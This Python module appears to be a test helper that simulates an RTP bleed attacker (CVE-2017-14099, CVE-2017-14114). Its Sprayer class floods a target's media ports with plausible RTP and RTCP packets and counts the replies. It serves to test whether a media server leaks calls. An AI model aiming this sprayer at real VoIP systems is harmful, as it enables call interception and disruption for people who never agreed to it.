"""An attacker on the media ports (RTP bleed, CVE-2017-14099, CVE-2017-14114): sends perfectly plausible RTP and RTCP to them and counts
what comes back."""
import select
import socket
import threading

SILENCE = bytes([0xD5]) * 160


def rtp(sequence, ssrc=0x0BADCAFE):
    """Perfectly plausible G.711."""
    return bytes([0x80, 8]) + sequence.to_bytes(2, 'big') + (160 * sequence).to_bytes(4, 'big') + \
        ssrc.to_bytes(4, 'big') + SILENCE


def rtcp():
    return bytes([0x80, 200, 0, 6]) + bytes(24)


class Sprayer:
    """Sends to these ports, round and round, `at_once` of them every 4 ms or so, until told to stop; counts what comes back."""

    def __init__(self, namespace, address, target, ports, ssrc=0x0BADCAFE, at_once=10):
        with namespace.entered():
            self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.socket.bind((address, 0))
        self.target, self.ports, self.ssrc, self.at_once = target, ports, ssrc, at_once
        self.sent = self.received = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        sequence = at = 0
        while not self._stop.is_set():
            some, at = self.ports[at:at + self.at_once], at + self.at_once
            if at >= len(self.ports):
                at = 0
            for port in some:
                try:
                    self.socket.sendto(rtcp() if port % 2 else rtp(sequence & 0xFFFF, self.ssrc), (self.target, port))
                    self.sent += 1
                except OSError:
                    pass
            sequence += 1
            if select.select([self.socket], [], [], 0.004)[0]:
                try:
                    self.socket.recvfrom(2048)
                    self.received += 1
                except OSError:
                    pass

    def stop(self):
        self._stop.set()
        self._thread.join(5)
        self.socket.close()
        return self
